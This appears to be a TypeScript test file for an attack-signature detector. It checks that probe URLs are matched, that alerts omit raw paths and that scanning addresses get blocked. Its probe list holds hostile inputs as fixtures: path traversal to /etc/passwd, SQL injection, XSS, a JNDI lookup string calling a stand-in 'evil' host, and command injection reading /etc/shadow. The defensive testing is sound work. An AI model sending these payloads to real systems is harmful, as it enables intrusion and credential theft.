// Repeated attack signatures in request targets: traversal, encoding tricks, injection probes.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { matchSignatures } from '../../src/core/attack-signatures.js';
import { gw, Harness, sidecar, times } from './helpers.js';

const rule = { id: 'attack-signature', kind: 'attack-signature', severity: 'high', block: { seconds: 3600 } } as const;

const PROBES: [string, string][] = [
  ['/shop/../../etc/passwd', 'path-traversal'],
  ['/shop/%2e%2e/%2e%2e/etc/passwd', 'path-traversal'],
  ['/shop/%252e%252e%252fadmin', 'path-traversal'],
  ['/static/..%c0%af..%c0%afwin.ini', 'path-traversal'],
  ['/shop/..;/admin', 'path-traversal'],
  ['/shop/orders%2f..%2fusers', 'encoded-separator'],
  ['/files/a%5cb', 'encoded-separator'],
  ['/shop/orders/o-1%00.json', 'nul-byte'],
  ['/shop/orders/o-1%0d%0aSet-Cookie:x=1', 'crlf-injection'],
  ['/shop/orders?x=1%0d%0aContent-Length:%200', 'request-smuggling'],
  ['/shop/orders/1%20HTTP/1.1', 'request-smuggling'],
  ["/shop/orders/o-1'%20OR%20'1'='1", 'sql-injection'],
  ['/shop/orders?id=1+UNION+SELECT+password+FROM+users', 'sql-injection'],
  ['/shop/orders/1%20or%201=1--', 'sql-injection'],
  ["/shop/users/admin'--", 'sql-injection'],
  ['/shop/orders?q=1;DROP TABLE orders', 'sql-injection'],
  ['/shop/orders?q=sleep(5)', 'sql-injection'],
  ['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', 'xss'],
  ['/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E', 'xss'],
  ['/go?to=javascript:alert(1)', 'xss'],
  ['/x?q=${jndi:ldap://evil/a}', 'command-injection'],
  ['/x?host=127.0.0.1;cat%20/etc/shadow', 'command-injection'],
];

const NORMAL = [
  '/shop/orders', '/shop/orders/o-1', '/shop/orders/o-3fa85f64/refund', '/shop/users/me', '/clinic/patients/p-1/labs',
  '/clinic/patients/p-2/medication', '/clinic/patients/p-1/diagnosis', '/bank/transfers', '/bank/accounts/A-1', '/school/grades/me',
  '/grades/c1', '/payments/charge', '/internal/users/alice', '/v1/transit/encrypt/cards', '/.well-known/jwks.json',
  '/oauth2/authorize?response_type=code&client_id=shop-web&state=abc&code_challenge=E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
  "/shop/users/o'brien", '/docs/http/2', '/shop/orders?sort=created&order=desc', '/search?q=select+a+gift', '/shop/orders/o-1.json',
];

test('every probe matches its signature', () => {
  for (const [path, name] of PROBES) assert.ok(matchSignatures(path).includes(name), `${path} → ${matchSignatures(path).join(',') || 'nothing'}, expected ${name}`);
});

test('ordinary paths match no signature', () => {
  for (const path of NORMAL) assert.deepEqual(matchSignatures(path), [], path);
});

test('a scanner sending probes from one address: one alert naming signatures, never the path; the address blocked', async () => {
  const h = new Harness([rule]);
  await h.feed(PROBES.map(([path], i) => gw({ path, deny: true, status: i % 2 ? 400 : 404, code: i % 2 ? 'PCL_ERR_PATH_INVALID' : 'PCL_ERR_ROUTE_NOT_FOUND', address: '192.0.2.123' })), 2000);
  assert.equal(h.alerts.length, 1);
  const a = h.alerts[0];
  assert.ok(a);
  assert.deepEqual(a.subject, { address: '192.0.2.123' });
  assert.equal(a.count, 3);
  assert.match(a.summary, /path-traversal/);
  assert.ok(!a.summary.includes('passwd') && !a.summary.includes('/shop'));
  assert.deepEqual(h.blocks.map((b) => [b.kind, b.value]), [['address', '192.0.2.123']]);
});

test('probes in the query of allowed requests count through the signature names the gateway records', async () => {
  const h = new Harness([rule]);
  const allowed = (i: number) => gw({ path: '/shop/orders', sub: 'alice', route: 'shop.orders.list', address: '192.0.2.77', requestId: `q-${i}` });
  const events = [0, 1, 2].map((i) => {
    const e = allowed(i);
    e.what.signatures = ['sql-injection'];
    return e;
  });
  await h.feed(events, 2000);
  assert.equal(h.alerts.length, 1, 'three allowed requests with probes in their queries');
  assert.match(h.alerts[0]?.summary ?? '', /sql-injection/);
});

test('a workload probing its neighbours is the source, and one call seen at both sidecars counts once', async () => {
  const h = new Harness([rule]);
  const probe = (path: string) => {
    const requestId = `r-${path}`;
    return [
      sidecar({ svc: 'exam', direction: 'outbound', target: 'grades', path, requestId }),
      sidecar({ svc: 'grades', direction: 'inbound', peer: 'spiffe://demo/school/exam', path, requestId }),
    ];
  };
  await h.feed([...probe('/grades/..%2f..%2fadmin'), ...probe('/grades/c1%00')]);
  assert.equal(h.alerts.length, 0);
  await h.feed(probe("/grades/c1'%20or%201=1--"));
  assert.equal(h.alerts.length, 1);
  assert.deepEqual(h.alerts[0]?.subject, { workload: 'spiffe://demo/school/exam' });
});

test('normal traffic and one stray probe raise nothing', async () => {
  const h = new Harness([rule]);
  await h.feed([...times(5, () => NORMAL.map((path) => gw({ sub: 'alice', path }))).flat(), gw({ path: '/shop/../etc/passwd', deny: true, status: 400, address: '198.51.100.3' }), gw({ path: '/search?q=%3Cscript%3E', deny: true, status: 404, address: '198.51.100.3' })], 500);
  assert.equal(h.alerts.length, 0);
});

test('the window expiring resets the count', async () => {
  const h = new Harness([rule]);
  await h.feed(times(2, () => gw({ path: '/a/../../etc/passwd', deny: true, status: 400 })));
  await h.clock.advance(300_000);
  await h.feed(times(2, () => gw({ path: '/a/../../etc/passwd', deny: true, status: 400 })));
  assert.equal(h.alerts.length, 0);
});
